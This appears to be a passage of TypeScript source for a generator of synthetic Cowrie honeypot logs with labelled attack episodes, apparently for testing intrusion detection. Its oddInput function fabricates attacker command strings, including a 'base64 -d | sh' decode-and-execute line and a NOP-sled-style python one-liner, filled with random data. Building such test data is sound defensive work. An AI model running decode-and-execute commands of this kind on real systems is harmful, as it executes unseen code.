  const commands = r.shuffled(RARE_COMMANDS).slice(0, r.integer(6, 14));
  const oddInputs = r.integer(1, 2);
  for (let i = 0; i < oddInputs; i++) commands.splice(r.integer(0, commands.length), 0, oddInput(r));
  for (const command of commands) s.wait(r.uniform(2, 15)).command(command);
  s.wait(r.uniform(1, 5)).ttyClosed().wait(r.uniform(0.001, 0.01)).closed();
  return [ip];
}

function oddInput(r: SeededRandom): string {
  switch (r.integer(0, 2)) {
    case 0:
      return `echo ${randomBase64(r, r.integer(1500, 4000))} | base64 -d | sh`;
    case 1:
      return `python3 -c "import os; os.write(1, b'\\x90' * ${r.integer(2000, 9000)} + b'${randomBase64(r, r.integer(200, 600))}')"`;
    default: {
      let junk = "";
      for (let i = r.integer(800, 2000); i > 0; i--) junk += String.fromCharCode(r.integer(0x21, 0x7e));
      return junk;
    }
  }
}

const EPISODE_SCRIPTS: Readonly<Record<AttackType, EpisodeScript>> = {
  "brute-force": scriptBruteForce,
  "credential-stuffing": scriptCredentialStuffing,
  "port-scan/tunnel": scriptPortScanTunnel,
  "traffic-spike": scriptTrafficSpike,
  "malware-drop": scriptMalwareDrop,
  "unusual-behaviour": scriptUnusualBehaviour,
};

// The merged timeline.

interface EpisodeInFlight {
  readonly type: AttackType;
  readonly srcIps: string[];
  /** Events still waiting in the queue. */
  remaining: number;
  /** Index in `labels`, assigned when the first line is written. */
  labelIndex: number;
}

interface PendingEvent {
  readonly timeUs: number;
  /** Tie-break so that events at the same microsecond keep the order they were scripted in. */
  readonly order: number;
  readonly event: Record<string, unknown>;
  readonly episode: EpisodeInFlight | undefined;
}

/** A binary min-heap of scripted events by time: the sessions in flight, merged. */
class PendingEvents {
  private readonly heap: PendingEvent[] = [];

  get size(): number {
    return this.heap.length;
  }

  peekTimeUs(): number {
    return this.heap[0].timeUs;
  }

  push(item: PendingEvent): void {
    const heap = this.heap;
    let i = heap.length;
    heap.push(item);
    while (i > 0) {
      const parent = (i - 1) >> 1;
      if (!earlier(item, heap[parent])) break;
      heap[i] = heap[parent];
      i = parent;
    }
    heap[i] = item;
  }

  pop(): PendingEvent {
    const heap = this.heap;
    const top = heap[0];
    const last = heap.pop() as PendingEvent;
    if (heap.length > 0) {
      let i = 0;
      for (;;) {
        const left = 2 * i + 1;
        if (left >= heap.length) break;
        const right = left + 1;
        const child = right < heap.length && earlier(heap[right], heap[left]) ? right : left;
        if (!earlier(heap[child], last)) break;
        heap[i] = heap[child];
        i = child;
      }
      heap[i] = last;
    }
    return top;
  }
}

function earlier(a: PendingEvent, b: PendingEvent): boolean {
  return a.timeUs < b.timeUs || (a.timeUs === b.timeUs && a.order < b.order);
}

interface PlannedEpisode {
  readonly type: AttackType;
  /** The episode starts once this many lines are written (and the previous one is over). */
  readonly afterLine: number;
  readonly budget: number;
}

/**
 * Slots spread evenly after the warm-up: a full set of the six types for 5,000 lines and one
 * more per 50,000; for shorter logs only as many slots of MIN_EPISODE_SLOT lines as fit.
 */
function planEpisodes(random: SeededRandom, events: number): PlannedEpisode[] {
  const area = events * EPISODE_AREA_FRACTION;
  const count =
    events >= FULL_EPISODE_SET_MIN_EVENTS
      ? ATTACK_TYPES.length * Math.max(1, Math.floor(events / EVENTS_PER_EPISODE_ROUND))
      : Math.min(ATTACK_TYPES.length, Math.floor(area / MIN_EPISODE_SLOT));
  const types: AttackType[] = [];
  while (types.length < count) types.push(...random.shuffled(ATTACK_TYPES));
  const slot = area / Math.max(1, count);
  return types.slice(0, count).map((type, i) => ({
    type,
    afterLine: Math.ceil(events * WARM_UP_FRACTION + i * slot + random.uniform(0, 0.25 * slot)),
    budget: Math.floor(slot * EPISODE_BUDGET_FRACTION),
  }));
}

export class CowrieLogGenerator implements IterableIterator<GeneratedLine> {
  static readonly DEFAULT_START_MS = Date.UTC(2026, 2, 18);
  static readonly DEFAULT_RATE = REFERENCE_EVENTS_PER_SECOND;

  readonly events: number;
  private readonly rate: number;
  private readonly random: SeededRandom;
  private readonly sources: SourceAddresses;
  private readonly writer: ScriptWriter;
  private readonly queue = new PendingEvents();
  private readonly plan: PlannedEpisode[];
  private readonly episodeLabels: AttackEpisodeLabel[] = [];
  private nextPlanned = 0;
  private current: EpisodeInFlight | undefined;
  private nextVisitUs: number;
  private clockUs: number;
  private written = 0;
  private order = 0;

  constructor(options: CowrieLogGeneratorOptions) {
    const { events, seed } = options;
    const startMs = options.startMs ?? CowrieLogGenerator.DEFAULT_START_MS;
    const rate = options.rate ?? CowrieLogGenerator.DEFAULT_RATE;
    if (!Number.isSafeInteger(events) || events < 0) throw new RangeError(`events must be a whole number >= 0, not ${events}`);
    if (!Number.isFinite(rate) || rate <= 0) throw new RangeError(`rate must be a positive number of events per second, not ${rate}`);
    if (!Number.isFinite(startMs)) throw new RangeError(`startMs must be a finite epoch time, not ${startMs}`);
    this.events = events;
    this.rate = rate;
    this.random = new SeededRandom(seed);
    const sensor = inventSensor(this.random);
    this.sources = new SourceAddresses(this.random);
    this.writer = new ScriptWriter(this.random, sensor, this.sources, new SessionIds(this.random));
    this.plan = planEpisodes(this.random, events);
    this.clockUs = Math.round(startMs * 1000);
    this.nextVisitUs = this.clockUs;
  }

  /** Episodes written so far; complete once the iteration is done. */
  get labels(): readonly AttackEpisodeLabel[] {
    return this.episodeLabels;
  }

  get linesWritten(): number {
    return this.written;
  }

  [Symbol.iterator](): this {
    return this;
  }

  next(): IteratorResult<GeneratedLine, undefined> {
    if (this.written >= this.events) return { done: true, value: undefined };
    this.startDueEpisode();
    // A visit's first event is its connect at nextVisitUs, so every event up to then is queued.
    while (this.queue.size === 0 || this.nextVisitUs <= this.queue.peekTimeUs()) this.startVisit();
    const pending = this.queue.pop();
    this.written += 1;
    this.clockUs = pending.timeUs;
    const line = JSON.stringify(pending.event);
    const episode = pending.episode && this.recordEpisodeLine(pending.episode, pending.event.timestamp as string);
    return { done: false, value: { line, lineNumber: this.written, episode } };
  }

  private startVisit(): void {
    scriptVisit(this.writer, this.sources.visitor(), this.nextVisitUs);
    const scripted = this.writer.take();
    for (const item of scripted) this.enqueue(item, undefined);
    // The pause after a visit is exponential with the mean time its events take at `rate`:
    // visits form a Poisson-like process and the long-run background rate is `rate`.
    this.nextVisitUs += Math.max(1, seconds(this.random.exponential(scripted.length / this.rate)));
  }

  private startDueEpisode(): void {
    const planned = this.plan[this.nextPlanned];
    if (!planned || this.written < planned.afterLine) return;
    if (this.current && this.current.remaining > 0) return;
    this.nextPlanned += 1;
    const startUs = this.clockUs + seconds(this.random.uniform(1, 30));
    const srcIps = EPISODE_SCRIPTS[planned.type](this.writer, {
      startUs,
      budget: planned.budget,
      backgroundSessionsPerSecond: this.rate / REFERENCE_EVENTS_PER_SESSION,
    });
    const scripted = this.writer.take();
    const endUs = scripted.reduce((latest, item) => Math.max(latest, item.timeUs), startUs);
    const backgroundMeanwhile = (this.rate * (endUs - this.clockUs)) / MICROS_PER_SECOND;
    // An episode cut off by the end of the log would be labelled by its first half only; the
    // margin covers background bursts well beyond their mean.
    if (this.written + scripted.length + 1.5 * backgroundMeanwhile + 20 > this.events) return;
    this.current = { type: planned.type, srcIps, remaining: scripted.length, labelIndex: -1 };
    for (const item of scripted) this.enqueue(item, this.current);
  }

  private enqueue(item: ScriptedEvent, episode: EpisodeInFlight | undefined): void {
    this.queue.push({ timeUs: item.timeUs, order: this.order++, event: item.event, episode });
  }

  private recordEpisodeLine(episode: EpisodeInFlight, timestamp: string): number {
    episode.remaining -= 1;
    if (episode.labelIndex < 0) {
      episode.labelIndex = this.episodeLabels.length;
      this.episodeLabels.push({
        type: episode.type,
        src_ips: episode.srcIps,
        start: timestamp,
        end: timestamp,
        first_line: this.written,
        last_line: this.written,
      });
    } else {
      const label = this.episodeLabels[episode.labelIndex];
      label.end = timestamp;
      label.last_line = this.written;
    }
    return episode.labelIndex;
  }
}
